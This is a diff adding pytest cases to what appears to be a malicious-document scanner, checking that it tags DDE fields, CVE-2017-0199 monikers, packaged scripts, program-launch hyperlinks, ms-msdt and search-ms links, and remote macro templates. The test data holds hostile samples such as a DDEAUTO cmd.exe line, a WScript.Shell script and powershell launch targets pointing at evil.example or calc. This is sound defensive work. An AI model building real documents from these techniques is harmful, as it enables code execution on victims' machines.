@@ -2,13 +2,16 @@
 
 from __future__ import annotations
 
+import struct
+
 import pytest
 
-from bridge.service.analysis.content.office_attacks import DDE, DDE_LINK, tag_of_field
+from bridge.service.analysis.content import link_address
+from bridge.service.analysis.content.office_attacks import DDE, DDE_LINK, is_remote, tag_of_field
 from tests.processor_time import fair_cpu_s
 from tests.service.service_kit import zipped
-from tests.service.test_service_document_attacks import score
-from tests.service.test_service_documents import ole, tags
+from tests.service.test_service_document_attacks import onenote, rtf_object, score
+from tests.service.test_service_documents import MACRO, ole, relations, tags, vba
 
 DDE_PROGRAM = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '
 
@@ -178,3 +181,221 @@ def test_a_small_document_kept_a_process_busy(kind: str) -> None:
 def test_an_old_document_of_fields_takes_little_time(piece: bytes) -> None:
     content = zipped(("a.doc", old_document(piece * (28_000_000 // len(piece)))))
     assert fair_cpu_s(lambda: tags(content, "a.zip")) < 4, "one second on a quiet machine"
+
+
+LINKS = [
+    *("HTTPS://evil.example/x", "Https://evil.example/x", "https:\\\\evil.example\\x", "hTTp:/evil.example/x"),
+    *("FTP://evil.example/x", "file://evil.example/x", "SMB://evil.example/x", "WWW.evil.example"),
+]
+
+
+@pytest.mark.parametrize("codec", ["utf-16-le", "cp1252"])
+@pytest.mark.parametrize("link", LINKS)
+def test_links_in_capitals_were_not_found(link: str, codec: str) -> None:
+    host = "host:www.evil.example" if link.startswith("WWW") else "host:evil.example"
+    text = f'\x13 HYPERLINK "{link}" \x14click\x15'.encode(codec)
+    assert tags(old_document(text), "a.doc") == {host}
+    assert tags(onenote("a.txt", b"x") + link.encode(codec) + bytes(9), "a.one") >= {host}
+    assert tags(zipped(("xl/worksheets/sheet1.bin", bytes(9) + link.encode(codec) + bytes(9))), "a.xlsb") == {host}
+    mail_text = "__substg1.0_1000001F" if codec == "utf-16-le" else "__substg1.0_1000001E"
+    assert tags(ole({mail_text: f"see {link} today".encode(codec)}), "a.msg") == {host}
+
+
+def test_links_in_capitals_in_a_macro_were_not_found() -> None:
+    source = MACRO.replace(b"https://a.example/x", b"HTTPS:\\\\evil.example/x")
+    assert source != MACRO
+    assert "host:evil.example" in tags(ole({"Module1": vba(source)}), "a.doc")
+
+
+@pytest.mark.parametrize(
+    ("host", "codecs"),
+    [
+        ("\u00e9vil.example", ("utf-16-le", "utf-8", "cp1252")),
+        ("b\u00fccher.example", ("utf-16-le", "utf-8", "cp1252")),
+        ("evil\u3002example", ("utf-16-le", "utf-8")),
+        ("\u4f8b\u3048.example", ("utf-16-le", "utf-8")),
+    ],
+)
+def test_links_to_hosts_with_other_letters_were_not_found(host: str, codecs: tuple[str, ...]) -> None:
+    for codec in codecs:
+        text = f'\x13 HYPERLINK "https://{host}/x" \x14click\x15'.encode(codec)
+        assert f"host:{link_address.host_of(host)}" in tags(old_document(text), "a.doc")
+
+
+@pytest.mark.parametrize("after", [b"\x25\0\x01H\0e\0l\0l\0o\0", b"\xe9\xe8\xff", b"\0\x14", b"\0\0\xff\xfe"])
+@pytest.mark.parametrize("codec", ["utf-16-le", "cp1252"])
+def test_what_follows_a_link_is_not_a_part_of_its_host(after: bytes, codec: str) -> None:
+    text = "https://good.example/".encode(codec) + after
+    assert tags(old_document(text), "a.doc") == {"host:good.example"}
+
+
+def moniker(address: str) -> bytes:
+    text = f"{address}\0".encode("utf-16-le")
+    head = b"\x01\0\0\x02\x09\0\0\0\x01\0\0\0" + bytes(8) + bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
+    return ole({"\x01Ole": head + struct.pack("<I", len(text)) + text})
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        *("http://evil.example/x.hta", "HTTP://evil.example/x.hta", "hTTp://evil.example/x.hta"),
+        *("http:\\\\evil.example\\x.hta", "http:/evil.example/x.hta", "http:evil.example/x.hta"),
+        *("ftp://evil.example/x.hta", "file://evil.example/x.hta", "\\\\evil.example\\s\\x.hta"),
+        *("http://evil\u3002example/x.hta", "ht\ntp://evil.example/x.hta", " http://evil.example"),
+    ],
+)
+def test_an_object_that_is_loaded_was_not_seen_with_another_spelling_of_its_address(address: str) -> None:
+    """CVE-2017-0199."""
+    assert "office:exploit" in tags(moniker(address), "a.doc")
+    assert "office:exploit" in tags(rtf_object(b"OLE2Link", moniker(address)), "a.rtf")
+
+
+@pytest.mark.parametrize("address", ["file:///C:/data/book.xlsx", "HTTP://intranet/book.xlsx", "C:\\data\\book.xlsx"])
+def test_an_object_of_the_own_network_is_no_exploit(address: str) -> None:
+    assert "office:exploit" not in tags(moniker(address), "a.doc")
+
+
+SCRIPT = b"var s=new ActiveXObject('WScript.Shell');s.Run('calc');"
+
+
+def packaged(label: bytes, path: bytes, temporary: bytes, *wide: str) -> bytes:
+    data = b"\x02\0" + label + b"\0" + path + b"\0\0\0\x03\0" + struct.pack("<I", len(temporary) + 1) + temporary
+    data += b"\0" + struct.pack("<I", len(SCRIPT)) + SCRIPT
+    data += b"".join(struct.pack("<I", len(name)) + name.encode("utf-16-le") for name in wide)
+    return struct.pack("<I", len(data)) + data
+
+
+TEXT = (b"a.txt", b"C:\\a.txt", b"C:\\Temp\\a.txt")
+PACKAGES = {
+    "label": packaged(b"a.js", *TEXT[1:]),
+    "path": packaged(b"a.txt", b"C:\\a.js", TEXT[2]),
+    "temporary file": packaged(*TEXT[:2], b"C:\\Temp\\a.js"),
+    "temporary file, wide": packaged(*TEXT, "C:\\Temp\\a.js", "a.txt", "C:\\a.txt"),
+    "label, wide": packaged(*TEXT, "C:\\Temp\\a.txt", "a.js", "C:\\a.txt"),
+    "path, wide": packaged(*TEXT, "C:\\Temp\\a.txt", "a.txt", "C:\\a.js\0"),
+}
+
+
+@pytest.mark.parametrize("kind", PACKAGES)
+def test_some_names_of_a_packaged_file_were_not_looked_at(kind: str) -> None:
+    assert "mime:executable" in tags(ole({"\x01Ole10Native": PACKAGES[kind]}), "a.doc")
+    assert "mime:executable" in tags(rtf_object(b"Package", PACKAGES[kind][4:]), "a.rtf")
+
+
+def test_a_packaged_text_has_no_other_tag() -> None:
+    wide = ("C:\\Temp\\a.txt", "a.txt", "C:\\a.txt")
+    assert tags(ole({"\x01Ole10Native": packaged(*TEXT)}), "a.doc") == {"office:embedded-file"}
+    assert tags(ole({"\x01Ole10Native": packaged(*TEXT, *wide)}), "a.doc") == {"office:embedded-file"}
+    cut = packaged(*TEXT, *wide)[:-7]
+    assert tags(ole({"\x01Ole10Native": cut}), "a.doc") == {"office:embedded-file"}
+
+
+def slide(action: str, target: str) -> bytes:
+    part = f'<p:sld xmlns:p="p" xmlns:a="a" xmlns:r="r"><a:hlinkMouseOver r:id="r" action="{action}"/></p:sld>'
+    return zipped(
+        ("[Content_Types].xml", b"<Types/>"),
+        ("ppt/slides/slide1.xml", part.encode()),
+        ("ppt/slides/_rels/slide1.xml.rels", relations("hyperlink", target)),
+    )
+
+
+@pytest.mark.parametrize("action", ["ppaction://program", "pp&#97;ction://Program", " ppaction://program"])
+def test_an_action_that_starts_a_program_had_no_tag(action: str) -> None:
+    assert "office:launch" in tags(slide(action, "tool"), "a.ppsx")
+    assert score(slide(action, "tool"), "a.ppsx") >= 8
+
+
+@pytest.mark.parametrize(
+    "target",
+    [
+        *("cmd.exe%20/c%20powershell%20-c%20calc", "powershell%20-c%20calc", "C:\\Windows\\System32\\mshta.exe"),
+        *("file:///C:\\Windows\\System32\\cmd.exe", "file:///\\\\evil.example\\s\\a.exe"),
+        "\\\\evil.example@SSL\\s\\a.lnk",
+        *("search-ms:query=a&amp;crumb=location:\\\\evil.example\\s", "ms-msdt:/id PCWDiagnostic", "MS-MSDT:/id x"),
+        "file://203.0.113.7/s/a.hta",
+    ],
+)  # fmt: skip
+def test_a_link_that_starts_a_program_had_no_tag(target: str) -> None:
+    assert "office:launch" in tags(slide("", target), "a.pptx")
+    runs = (BEGIN, code(f' HYPERLINK "{target}" '), SEPARATE, END)
+    assert "office:launch" in tags(document(*runs), "a.docx")
+
+
+@pytest.mark.parametrize(
+    "target",
+    [
+        *("https://evil.example/a.exe", "mailto:cmd.exe@evil.example", "file:///C:\\docs\\control\\plan.docx"),
+        *("file:///\\\\fileserver\\tools\\setup.exe", "file://evil.com", "..\\cmd\\readme.txt", "#cmd"),
+        *("javascript:void(0)", "file:///D:/explorer", "powershell-guide.docx", "tel:123", "slide2.xml"),
+    ],
+)
+def test_an_ordinary_link_has_no_tag(target: str) -> None:
+    for action in ("", "ppaction://hlinksldjump", "ppaction://hlinkfile", "ppaction://media"):
+        assert "office:launch" not in tags(slide(action, target), "a.pptx")
+    runs = (BEGIN, code(f' HYPERLINK "{target}" '), SEPARATE, END)
+    assert "office:launch" not in tags(document(*runs), "a.docx")
+
+
+@pytest.mark.parametrize(
+    ("target", "is_outside"),
+    [
+        ("http://evil\u3002example/a.dotm", True),
+        ("ht\ntps://evil.example/a.dotm", True),
+        ("\t https://evil.example/a.dotm", True),
+        ("http:" + "/" * 12 + "evil.example/a.dotm", True),
+        ("HTTP:\\\\evil.example\\a.dotm", True),
+        ("http:evil.example/a.dotm", True),
+        ("http://evil%2eexample/a.dotm", True),
+        ("http://0xcb007107/a.dotm", True),
+        ("http://intranet/x?url:http://evil.example", False),
+        ("http://[fd00::1]/a.dotm", False),
+        ("http://[2001:db8::1]/a.dotm", True),
+        ("http://0xc0a80101/a.dotm", False),
+        ("file://C:/t.dotm", False),
+        ("file://c|/t.dotm", False),
+        ("C:\\t.dotm", False),
+        ("\\\\dc01\\netlogon\\t.dotm", False),
+        ("t.dotm", False),
+        ("", False),
+    ],
+)
+def test_an_address_was_read_in_another_way_than_links_are(target: str, is_outside: bool) -> None:
+    assert is_remote(target) is is_outside
+
+
+def interface(macro: str) -> bytes:
+    part = f'<customUI xmlns="u" {macro}><ribbon supertip="see https://good.example!"/></customUI>'
+    return zipped(("[Content_Types].xml", b"<Types/>"), ("customUI/customUI.xml", part.encode()))
+
+
+@pytest.mark.parametrize(
+    "macro",
+    [
+        'onLoad="https://evil.example/a.dotm!M.x"',
+        'onLoad="\\\\evil.example\\s\\a.dotm!M.x"',
+        '><button onAction="https://evil.example/a.dotm!M.x"/><button',
+    ],
+)
+def test_a_macro_from_elsewhere_in_the_user_interface_had_no_tag(macro: str) -> None:
+    assert "office:remote-template" in tags(interface(macro), "a.docx")
+
+
+def test_the_host_of_a_macro_in_the_user_interface_was_not_found() -> None:
+    assert tags(interface('onLoad="https://evil.example/a.dotm!M.x"'), "a.docx") >= {"host:evil.example"}
+
+
+@pytest.mark.parametrize("macro", ['onLoad="M.x"', 'onLoad="C:\\a.dotm!M.x"', 'onLoad="\\\\server\\s\\a.dotm!M.x"'])
+def test_a_user_interface_of_ones_own_has_no_tag(macro: str) -> None:
+    assert "office:remote-template" not in tags(interface(macro), "a.docx")
+
+
+@pytest.mark.parametrize(
+    "connection",
+    [
+        '<webPr url="https://evil.example/x"/>',
+        '<dbPr connection="Provider=MSOLAP;Data Source=https://evil.example/x"/>',
+    ],
+)
+def test_the_connections_of_a_workbook_were_not_looked_at(connection: str) -> None:
+    part = f'<connections><connection id="1" refreshOnLoad="1">{connection}</connection></connections>'
+    assert tags(zipped(("xl/connections.xml", part.encode())), "a.xlsx") == {"host:evil.example"}
